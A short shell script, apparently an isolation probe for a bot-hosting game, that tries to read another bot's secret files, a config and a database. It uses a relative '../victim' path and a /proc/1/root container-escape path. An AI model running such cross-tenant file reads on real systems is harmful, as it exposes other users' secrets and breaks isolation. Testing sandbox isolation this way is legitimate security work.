# Reads another bot's files, the database and config.yaml, by host path and relatively.
. ./targets.sh
for f in $SECRETS ../victim/secret.txt "/proc/1/root$DATA_DIR/kothd.db"; do
	cat "$f"
done
ls "$DATA_DIR"
